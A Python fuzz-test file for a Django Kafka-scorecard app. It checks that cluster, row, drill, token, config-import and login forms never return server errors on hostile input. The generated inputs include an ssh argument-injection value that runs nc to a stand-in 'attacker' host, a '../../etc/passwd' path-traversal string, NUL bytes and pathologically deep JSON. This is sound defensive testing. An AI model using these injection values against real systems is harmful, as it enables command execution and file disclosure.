"""Every form, posted through its real view by a logged-in person with the role it needs
(the whole stack: middleware, view, form, model validation, services, PostgreSQL, template):
no input gives a server error; a refusal shows a message; valid input is stored as typed.
One savepoint per example keeps examples apart."""

import pytest
from django.contrib.auth import get_user_model
from hypothesis import given
from hypothesis import strategies as st

from drills.models import DrillRun, DrillSchedule
from scorecard import catalog
from scorecard.models import Actuator, Check, Cluster, Row
from tests.factories import ca_pem, register
from tests.fuzz.strategies import (
    SPECIAL,
    assert_answered,
    fuzz,
    get_query,
    hostile_text,
    huge,
    json_text,
    post_form,
    rolled_back,
)

pytestmark = pytest.mark.django_db


def field(*valid):
    """A field's value: one a person would type, or anything a hostile client sends."""
    return st.one_of(st.sampled_from(valid), hostile_text()) if valid else hostile_text()


def form(**fields):
    return st.fixed_dictionaries({}, optional=fields)


@pytest.fixture
def drillable():
    return register("fuzz-target", drills_allowed=True, actuator=Actuator.SANDBOX, sandbox_control="/tmp/fz.sock")


CLUSTER_FIELDS = form(
    name=field("fuzz-1", "a b.c_d-e"),
    environment=field("production", "staging"),
    tags=field("payments, eu-west", ""),
    bootstrap_servers=field("kafka-1:9092,kafka-2:9092", "[::1]:9092", "-oProxyCommand=x:22"),
    security_protocol=field("PLAINTEXT", "SSL", "SASL_SSL"),
    sasl_mechanism=field("", "PLAIN", "SCRAM-SHA-512"),
    sasl_username=field("", "svc"),
    sasl_password=field("", "pw"),
    ssl_ca_pem=st.one_of(field(""), st.just("CA")),
    expected_brokers=field("3", "0", "-1", "99999999999999999999"),
    worker_queue=field("default", "zone-a"),
    standby=field("", "1", "999999999999999999999"),
    drills_allowed=field("on", ""),
    actuator=field("none", "command", "sandbox", "manual"),
    actuator_commands=st.one_of(
        json_text(),
        st.just(
            '{"broker_down": ["systemctl", "stop", "kafka@{broker}"], '
            '"broker_up": ["systemctl", "start", "kafka@{broker}"]}'
        ),
    ),
    team=field("", "1"),
)


def test_cluster_form_never_errors(role_client, drillable):
    admin = role_client("admin")
    pem = ca_pem()
    edit = f"/clusters/{drillable.cluster_id}/edit/"

    @fuzz(100)
    @given(CLUSTER_FIELDS, st.booleans())
    def run(data, editing):
        if data.get("ssl_ca_pem") == "CA":
            data["ssl_ca_pem"] = pem
        with rolled_back():
            response = post_form(admin, edit if editing else "/clusters/new/", data)
            assert_answered(response)

    run()


@pytest.mark.parametrize(
    "commands",
    [
        '{"broker_down": ["a\\u0000"], "broker_up": ["b"]}',
        '{"\\u0000": 1}',
        "[" * 100_000 + "]" * 100_000,
        '{"a":' * 50_000 + "1" + "}" * 50_000,
        '{"x": "' + "a" * 3_000_000 + '"}',
        "[1, 2]",
        '"text"',
    ],
    ids=["nul-value", "nul-key", "deep-array", "deep-object", "huge", "a-list", "a-string"],
)
def test_actuator_commands_nul_deep_huge_or_not_an_object_refused_with_a_message(role_client, commands):
    """The issue's 500s: a NUL in the commands JSON (PostgreSQL refuses it) and JSON nested
    100,000 deep. Refused on any actuator, not only the command one."""
    response = post_form(
        role_client("admin"),
        "/clusters/new/",
        {
            "name": "nul",
            "bootstrap_servers": "k:9092",
            "security_protocol": "PLAINTEXT",
            "worker_queue": "default",
            "actuator": "none",
            "actuator_commands": commands,
        },
    )
    assert response.status_code in (200, 413)
    if response.status_code == 200:
        assert 'class="errorlist' in response.content.decode()
    assert not Cluster.objects.filter(name="nul").exists()


def test_valid_cluster_round_trips(role_client):
    admin = role_client("admin")

    @fuzz(25)
    @given(
        st.from_regex(r"[A-Za-z0-9][A-Za-z0-9 ._-]{0,60}", fullmatch=True).map(str.strip).filter(bool),
        st.from_regex(r"[a-z0-9][a-z0-9_-]{0,30}", fullmatch=True),
        st.text(alphabet=st.characters(exclude_categories=("Cs", "Cc")), max_size=200).map(str.strip),
    )
    def run(name, environment, username):
        with rolled_back():
            data = {
                "name": name,
                "environment": environment,
                "bootstrap_servers": "kafka-1:9092",
                "security_protocol": "PLAINTEXT",
                "worker_queue": "default",
                "actuator": "none",
                "actuator_commands": '{"broker_down": ["ssh", "{host}"], "broker_up": ["ssh", "{host}"]}',
            }
            response = post_form(admin, "/clusters/new/", data)
            assert response.status_code == 302, response.content.decode()[:2000]
            cluster = Cluster.objects.get(name=name)
            assert (cluster.environment, cluster.actuator_commands["broker_down"]) == (environment, ["ssh", "{host}"])

    run()


ROW_FIELDS = form(
    owner=field("payments team"),
    owner_contact=field("#pay-oncall"),
    owner_user=field("", "1", "x"),
    test_description=st.one_of(field("ack write"), huge(4_990, 5_010)),
    rollback_condition=field("stop at 1 %"),
    rollback_max_duration_seconds=field("300", "4", "1e3"),
    rollback_max_error_rate=field("0.01", "nan", "inf"),
    rollback_error_window_seconds=field("5"),
    rollback_max_consumer_lag=field("1000", "99999999999999999999999"),
    rollback_min_healthy_brokers=field("2"),
    target=field("RPO 0"),
    target_write_rto_s=field("30", "-1", "1e308"),
    target_rpo_acked_lost=field("0"),
    target_overrides=field("broker_loss.write_rto_s = 10", "x.y = 1\nbroker_loss.write_rto_s = nan", "= =\n.\n"),
)


def test_row_form_never_errors(role_client, drillable):
    admin, owner = role_client("admin"), role_client("operator", username="olga")
    rows = list(Row.objects.filter(scorecard=drillable))
    Row.objects.filter(pk=rows[0].pk).update(owner_user=get_user_model().objects.get(username="olga"))

    @fuzz(80)
    @given(ROW_FIELDS, st.sampled_from(rows), st.booleans())
    def run(data, row, as_owner):
        with rolled_back():
            assert_answered(post_form(owner if as_owner else admin, f"/rows/{row.pk}/edit/", data))

    run()


def test_row_text_round_trips_up_to_its_limit_and_is_refused_beyond(role_client, drillable):
    admin = role_client("admin")
    row = Row.objects.filter(scorecard=drillable).first()

    @fuzz(40)
    @given(st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=6000))
    def run(text):
        with rolled_back():
            response = post_form(admin, f"/rows/{row.pk}/edit/", {"test_description": text, "owner": "team"})
            stored = Row.objects.get(pk=row.pk).test_description
            if len(text.strip()) <= 5000:
                assert response.status_code == 302, response.content.decode()[:1000]
                assert stored == text.strip()
            else:
                assert "at most 5000 characters" in response.content.decode()
                assert stored != text.strip()

    run()


def test_check_forms_never_error(role_client, drillable):
    admin = role_client("admin")
    checks = list(Check.objects.filter(row__scorecard=drillable))
    names = sorted({p.name for spec in catalog.SPECS.values() for p in spec})
    params = st.dictionaries(
        st.sampled_from(names), st.one_of(hostile_text(), st.sampled_from(["1", "10", "on"])), max_size=6
    )
    schedule = form(interval_seconds=field("60", "9"), max_age_seconds=field("3600", "-5"))
    applicability = form(reason=st.one_of(field("no such API"), huge(1_990, 2_010)), withdraw=field("", "1"))

    @fuzz(100)
    @given(
        st.sampled_from(checks),
        st.sampled_from(["params", "schedule", "applicability"]),
        params,
        schedule,
        applicability,
    )
    def run(check, page, params, schedule, applicability):
        data = {"params": params, "schedule": schedule, "applicability": applicability}[page]
        with rolled_back():
            assert_answered(post_form(admin, f"/checks/{check.pk}/{page}/", data))

    run()


def test_sign_off_never_errors(role_client, drillable):
    owner = role_client("operator", username="olga")
    Row.objects.filter(scorecard=drillable).update(owner_user=get_user_model().objects.get(username="olga"))
    rows = list(Row.objects.filter(scorecard=drillable))

    @fuzz(40)
    @given(st.sampled_from(rows), form(comment=st.one_of(field("reviewed"), huge(1_990, 2_010))))
    def run(row, data):
        with rolled_back():
            response = post_form(owner, f"/rows/{row.pk}/sign-off/", data)
            assert response.status_code == 302
            assert row.signoffs.exists() or any("sign-off needs" in m or "broken" in m for m in _messages(response))

    run()


def _messages(response):
    from tests.fuzz.strategies import messages_of

    return messages_of(response)


def test_drill_forms_never_error(role_client, drillable):
    approver = role_client("drill approver")
    cluster_id = drillable.cluster_id
    spec = {p.name: p for p in catalog.SPECS["drill"]}
    drill = form(
        scenario=field(*catalog.Scenario.values),
        confirm=field("fuzz-target", " fuzz-target "),
        **{name: field("1", "0.5", "300", "", "on") for name in spec},
    )
    schedule = form(
        scenario=field(*catalog.Scenario.values),
        weekdays=st.lists(field("1", "7", "8", "0"), max_size=8),
        window_start=field("02:00", "25:00", "2:0"),
        window_end=field("04:00", "02:00"),
        time_zone=field("UTC", "Europe/Paris", "../../etc/passwd", "/etc/localtime", "Etc/GMT+1", "a" * 70),
        fault_seconds=field("10", "0"),
        max_duration_seconds=field("", "300", "3601"),
    )

    @fuzz(80)
    @given(st.booleans(), drill, schedule)
    def run(start, drill_data, schedule_data):
        with rolled_back():
            if start:
                response = post_form(approver, f"/clusters/{cluster_id}/drills/", drill_data)
            else:
                response = post_form(approver, f"/clusters/{cluster_id}/drill-schedules/", schedule_data)
            assert_answered(response)
            if response.status_code == 200:
                assert not DrillRun.objects.exists() and not DrillSchedule.objects.exists()

    run()


def test_token_config_import_and_login_forms_never_error(role_client, drillable, client):
    admin = role_client("admin")
    tokens = form(
        name=st.one_of(field("deploy"), huge(100, 102)),
        days=field("", "1", "732", "-1"),
        user=field("", "admin", "nobody"),
    )
    config = form(
        text=st.one_of(
            hostile_text(),
            st.sampled_from(["version: 1\ncluster: {name: fuzz-target}\n", "a: &x [*x]\n", "- " * 50_000]),
        ),
        digest=field("", "0" * 64, "x" * 65),
    )
    login = form(username=field("admin"), password=field("x"))

    @fuzz(60)
    @given(st.sampled_from(["tokens", "config", "config-new", "login", "admin-login"]), tokens, config, login)
    def run(page, token_data, config_data, login_data):
        with rolled_back():
            if page == "tokens":
                response = post_form(admin, "/tokens/", token_data)
                assert response.status_code < 500
            elif page in ("login", "admin-login"):
                url = "/accounts/login/" if page == "login" else "/admin/login/"
                assert post_form(client, url, login_data).status_code < 500
            else:
                url = "/config/import/" if page == "config-new" else f"/clusters/{drillable.cluster_id}/config/import/"
                assert_answered(post_form(admin, url, config_data))

    run()


def test_filter_pages_and_query_strings_never_error(role_client, drillable):
    viewer = role_client("viewer")
    row = Row.objects.filter(scorecard=drillable).first()
    pages = [
        "/",
        "/audit/",
        "/compare/",
        f"/rows/{row.pk}/evidence/",
        f"/clusters/{drillable.cluster_id}/trends/",
        "/exports/",
    ]
    query = st.dictionaries(
        st.sampled_from(
            [
                "environment",
                "tag",
                "status",
                "cluster",
                "actor",
                "action",
                "since",
                "until",
                "page",
                "clusters",
                "before",
                "days",
            ]
        ),
        st.one_of(field("1", "2026-01-01", "0", "-1", "9" * 40), st.lists(field("1", "2"), max_size=5)),
        max_size=5,
    )

    @fuzz(60)
    @given(st.sampled_from(pages), query)
    def run(page, data):
        response = get_query(viewer, page, data)
        assert response.status_code < 500

    run()


def test_export_form_never_errors(role_client, drillable):
    operator = role_client("operator")

    @fuzz(40)
    @given(
        form(
            since=field("2026-01-01", "0001-01-01", "9999-12-31 23:59"),
            until=field("2026-02-01"),
            cluster=st.lists(field(str(drillable.cluster_id), "99999999999"), max_size=3),
        )
    )
    def run(data):
        with rolled_back():
            response = post_form(operator, "/exports/", data)
            assert response.status_code < 500

    run()


def test_special_values_are_all_generated():
    """The strategies carry what the issue names: NUL, control characters, lone surrogates, a
    leading "-" (a regression guard for the strategies themselves)."""
    assert {"\x00", "\ud800", "-oProxyCommand=nc attacker 22", "\x01\x1f\x7f"} <= set(SPECIAL)


@pytest.mark.parametrize("url", ["/accounts/login/", "/admin/login/"])
def test_both_login_pages_refuse_a_username_longer_than_the_column(client, url):
    """Django's login forms never enforce the username's length; django-axes then failed to
    record the attempt in its 255-character column (a 500 on each page, found by fuzzing)."""
    response = client.post(url, {"username": "u" * 300, "password": "x"})
    assert response.status_code == 200
    assert "at most 150 characters" in response.content.decode()
